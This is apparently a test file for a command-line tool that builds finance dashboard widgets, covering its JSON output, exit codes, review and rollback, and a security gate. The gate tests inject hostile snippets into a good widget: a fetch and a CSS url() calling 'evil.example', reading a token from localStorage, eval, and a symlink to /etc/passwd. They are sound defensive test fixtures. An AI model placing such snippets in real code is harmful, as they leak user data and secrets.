// The command line as scripts see it: shapes of --json and exit codes.
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { BIN, ROOT, Stack } from "./stack.mjs";

const stack = new Stack();
const work = mkdtempSync(join(tmpdir(), "atelier-cli-"));

beforeAll(() => stack.start());
afterAll(async () => {
  await stack.stop();
  rmSync(work, { recursive: true });
});

/** Runs the program against the running installation; stdout is parsed where it is one JSON object. */
const atelier = (...words) => piped("", ...words);

/** The same with a text on standard input. */
function piped(input, ...words) {
  return new Promise((resolve) => {
    const child = spawn(join(BIN, "atelier"), [...words, "--data", stack.data], { env: { ...process.env, ATELIER_ROOT: ROOT }, timeout: 60_000 });
    // A program that refuses its words ends without reading: the pipe is then closed, which is no fault.
    child.stdin.on("error", (error) => expect(error.code).toBe("EPIPE"));
    child.stdin.end(input);
    let out = "";
    let err = "";
    child.stdout.on("data", (text) => (out += text));
    child.stderr.on("data", (text) => (err += text));
    child.on("close", (code) => {
      let json = null;
      try {
        json = JSON.parse(out);
      } catch {
        // not JSON: for people
      }
      resolve({ code, out, err, json });
    });
  });
}

const KEYS = ["session", "state", "rung", "template", "spec", "plan", "questions", "artifacts", "gate", "preview", "change", "usage", "timings_ms"];
const SHA256 = expect.stringMatching(/^[0-9a-f]{64}$/);

test("ask and answer: keys, states and exit codes", async () => {
  const done = await atelier("ask", "Pie chart of my portfolio by sector", "--json", "--no-screenshot", "--publish");
  expect([done.code, done.err]).toEqual([0, ""]);
  expect(Object.keys(done.json)).toEqual(expect.arrayContaining(KEYS));
  expect(done.json).toMatchObject({
    state: "done",
    rung: 1,
    template: "allocation_pie",
    gate: { ok: true, findings: [] },
    preview: { url: expect.stringMatching(/^http:\/\/127\.0\.0\.1:\d+\/console\/#\/preview\/pv_[0-9a-f]{32}$/), screenshot: null },
    change: { id: expect.stringMatching(/^chg_/), branch: expect.stringMatching(/^user\/investor-a\/feature-/), commit: expect.stringMatching(/^[0-9a-f]{40}$/), state: "open" },
    questions: [],
  });
  expect(done.json.artifacts.length).toBeGreaterThan(0);
  for (const artifact of done.json.artifacts) expect(artifact).toEqual({ path: expect.any(String), sha256: SHA256 });
  for (const item of done.json.plan) expect(item).toMatchObject({ title: expect.any(String), status: "completed" });
  for (const name of ["understand", "write", "gate", "preview", "total"]) expect([name, done.json.timings_ms[name]]).toEqual([name, expect.any(Number)]);
  expect(done.json.usage).toMatchObject({ tokens_in: 0, tokens_out: 0 });

  let asked;
  for (const text of ["Compare tickers", "Pie chart by sector with confetti and music", "Table of assets with their moon phase"]) {
    asked = await atelier("ask", text, "--json", "--user", "investor-b");
    if (asked.code === 2) break;
  }
  expect([asked.code, asked.json.state, asked.json.questions.length]).toEqual([2, "question", 1]);
  expect(asked.json.questions[0]).toMatchObject({ id: expect.any(String), question: expect.any(String), options: expect.any(Array), required: true });
  const answered = await atelier("answer", asked.json.session, "1", "--user", "investor-b", "--json", "--no-screenshot");
  expect([answered.code, answered.json.state, answered.json.gate.ok]).toEqual([0, "done", true]);
  const twice = await atelier("answer", asked.json.session, "1", "--user", "investor-b", "--json");
  expect([twice.code, twice.json.error.code]).toEqual([1, "conflict"]);

  const stranger = await atelier("ask", "x", "--json", "--user", "nobody");
  expect([stranger.code, stranger.json.error.code]).toEqual([1, "not_found"]);
  expect(stranger.err).toMatch(/investor-a/);
  expect((await atelier("answer", "ses_nothing", "1", "--json")).code).toBe(1);
  const mistyped = await atelier("ask", "x", "--jsn");
  expect([mistyped.code, mistyped.err]).toEqual([1, expect.stringContaining("did you mean --json?")]);
  expect((await atelier("sak", "x")).err).toMatch(/unknown command 'sak'/);
});

test("review, release and rollback", async () => {
  const { json: asked } = await atelier("ask", "Bar chart of dividends by month", "--json", "--no-screenshot", "--publish", "--user", "investor-b");
  const { id } = asked.change;
  const list = await atelier("review", "list", "--json", "--state", "open");
  expect(list.code).toBe(0);
  expect(list.json.changes.find((change) => change.id === id)).toMatchObject({ author: "investor-b", state: "open" });
  const shown = await atelier("review", "show", id, "--json");
  expect(shown.json).toMatchObject({ id, content_sha256: SHA256, files: expect.any(Array), gate: { ok: true } });
  expect((await atelier("review", "approve", id, "--as", "investor-a", "--json")).code).toBe(1);
  expect((await atelier("review", "return", id, "--json")).json.error).toMatchObject({ code: "invalid_argument", message: expect.stringContaining("comment") });
  expect((await atelier("review", "praise", id)).code).toBe(1);
  const approved = await atelier("review", "approve", id, "--json");
  expect([approved.code, approved.json.state]).toEqual([0, "merged"]);
  expect(approved.json.release_id).toMatch(/^rel_/);

  const releases = await atelier("release", "list", "--user", "investor-b", "--json");
  expect(releases.json.releases.map((release) => [release.id, release.state])).toEqual([[approved.json.release_id, "live"]]);
  const back = await atelier("rollback", approved.json.release_id, "--json");
  expect([back.code, back.json.state]).toEqual([0, "rolled_back"]);
  expect((await atelier("rollback", approved.json.release_id, "--json")).code).toBe(1);
  const again = await atelier("release", "activate", approved.json.release_id, "--json");
  expect([again.code, again.json.state]).toEqual([0, "live"]);
  expect((await atelier("rollback", "rel_nothing", "--json")).json.error.code).toBe("not_found");
});

test("eval: one line a request", async () => {
  const file = join(work, "requests.jsonl");
  const lines = [
    { id: "r1", text: "Круговая диаграмма портфеля по секторам", template: "allocation_pie", params: { group_by: "sector" } },
    { id: "r2", text: "show my last 10 trades", template: "transactions_table" },
  ];
  writeFileSync(file, `${lines.map((line) => JSON.stringify(line)).join("\n")}\n`);
  const run = await atelier("eval", "--requests", file, "--json");
  expect([run.code, run.err]).toEqual([0, ""]);
  const verdicts = run.out.trim().split("\n").map((line) => JSON.parse(line));
  expect(verdicts.map(({ id, outcome, correct }) => [id, outcome, correct])).toEqual([["r1", "done", true], ["r2", "done", true]]);
  for (const verdict of verdicts) expect(Object.keys(verdict)).toEqual(expect.arrayContaining(["rung", "template", "params", "options", "gate", "seconds", "tokens_in", "tokens_out"]));
  writeFileSync(file, "{ broken\n");
  expect((await atelier("eval", "--requests", file)).err).toMatch(/requests\.jsonl, line 1/);
  expect((await atelier("eval", "--requests", join(work, "missing"))).code).toBe(1);
});

describe("gate", () => {
  const put = (path, text) => {
    const full = join(work, path);
    mkdirSync(join(full, ".."), { recursive: true });
    writeFileSync(full, text);
    return full;
  };
  /** What is added to a green widget, and what the finding must be about. */
  const hostile = {
    eval: [(good) => `${good}\nexport const x = eval("1");\n`, /eval/],
    network: [(good) => `${good}\nexport const x = fetch("https://evil.example");\n`, /fetch/],
    import: [(good) => `import fs from "node:fs";\n${good}\nexport const y = fs;\n`, /node:fs/],
    storage: [(good) => `${good}\nexport const z = localStorage.getItem("token");\n`, /localStorage/],
    markup: [(good) => `${good}\nexport const M = () => <div dangerouslySetInnerHTML={{ __html: "<b>x</b>" }} />;\n`, /dangerouslySetInnerHTML/],
    bomb: [
      (good) => `${good}\ntype Deep<N extends number, A extends unknown[] = []> = A["length"] extends N ? A : Deep<N, [...A, Deep<N, [...A, 1]>]>;\nexport const deep: Deep<900> = [];\n`,
      /excessively deep|too large|longer than|killed|did not end/,
    ],
    types: [(good) => `${good}\nexport const wrong: number = "text";\n`, /number/],
  };
  const report = expect.objectContaining({ ok: expect.any(Boolean), findings: expect.any(Array) });

  test("a widget that a session made is green, as a folder and as a file", async () => {
    const { json } = await atelier("ask", "Pie chart of my portfolio by sector", "--json", "--no-screenshot");
    const login = await stack.api("investor-a");
    for (const { path } of json.artifacts) put(`good/${path}`, (await login.get(`/sessions/${json.session}/artifacts/${path}`)).body.text);
    for (const path of [join(work, "good"), join(work, "good/widget.tsx")]) {
      const verdict = await atelier("gate", path, "--json");
      expect([path, verdict.code, verdict.json]).toEqual([path, 0, report]);
      expect([verdict.json.ok, verdict.json.findings]).toEqual([true, []]);
    }
  });

  test("hostile and broken files are red, each with a finding", async () => {
    const good = readFileSync(join(work, "good/widget.tsx"), "utf8");
    for (const [name, [spoil, about]] of Object.entries(hostile)) {
      const verdict = await atelier("gate", put(`hostile/${name}.tsx`, spoil(good)), "--json");
      expect([name, verdict.code, verdict.json]).toEqual([name, 3, report]);
      expect([name, verdict.json.ok]).toEqual([name, false]);
      expect(verdict.json.findings[0]).toMatchObject({ rule: expect.any(String), file: expect.any(String), line: expect.any(Number), text: expect.any(String) });
      expect(JSON.stringify(verdict.json.findings)).toMatch(about);
    }
  });

  test("links, style sheets, empty files and what is not there", async () => {
    const link = join(work, "link.tsx");
    symlinkSync("/etc/passwd", link);
    const linked = await atelier("gate", link, "--json");
    expect([linked.code, linked.json.ok, linked.json.findings[0].rule]).toEqual([3, false, "path.policy"]);
    expect(linked.out).not.toMatch(/root:/);
    const css = await atelier("gate", put("good.css", ".card { color: red; }\n"), "--json");
    expect([css.code, css.json.ok]).toEqual([0, true]);
    const leak = await atelier("gate", put("leak.css", `.card { background: url("https://evil.example/?x"); }\n`), "--json");
    expect([leak.code, leak.json.ok]).toEqual([3, false]);
    expect((await atelier("gate", put("empty.tsx", ""), "--json")).code).toBe(3);
    expect((await atelier("gate", put("binary.tsx", Buffer.from([0, 255, 254, 0])), "--json")).code).toBe(3);
    const missing = await atelier("gate", join(work, "nothing.tsx"), "--json");
    expect([missing.code, missing.json.error.code]).toEqual([1, "not_found"]);
    expect(missing.err).toMatch(/nothing\.tsx/);
  });
});

test("diagnose: what is read of answers line by line, and tokens as an estimate without a vocabulary", async () => {
  const folder = join(ROOT, "libs/llm/tests/tool_calls");
  const read = await piped(readFileSync(join(folder, "cases.jsonl")), "diagnose", "tool-calls");
  expect([read.code, read.err]).toEqual([0, ""]);
  expect(read.out).toBe(readFileSync(join(folder, "expected.jsonl"), "utf8"));
  const bad = await piped('{"id": 1}\n{"id": 2, "deltas": ["hi"], "finish_reason": "stop", "tools": []}\nno\n', "diagnose", "tool-calls");
  expect(bad.code).toBe(1);
  expect(bad.json).toEqual({ id: 2, text: "hi" });
  expect(bad.err).toMatch(/line 1: .*\n.*line 3: /);
  const counted = await piped("Сколько я заработал?", "diagnose", "tokens", "--json", "--root", work);
  expect(counted.json).toEqual({ tokens: expect.any(Number), exact: false, by: "estimate" });
  const missing = await piped("x", "diagnose", "tokens", "--tokenizer", join(work, "none.gguf"));
  expect([missing.code, missing.out]).toEqual([1, ""]);
  expect((await atelier("diagnose")).err).toContain("usage: ./atelier diagnose");
});
